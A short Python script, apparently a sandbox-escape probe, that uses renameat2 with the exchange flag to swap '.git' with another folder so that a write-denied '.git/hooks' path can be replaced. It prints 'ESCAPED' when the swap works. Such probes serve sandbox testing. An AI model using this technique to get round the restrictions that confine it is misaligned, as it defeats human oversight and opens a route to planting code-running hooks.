# Two folders exchanged in one step, the one above a denied folder and another.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("other/hooks")
if libc.renameat2(-100, b"other", -100, b".git", 2) == 0 and not os.path.exists(".git/hooks/old"): print("ESCAPED")
else: print(os.strerror(ctypes.get_errno()))
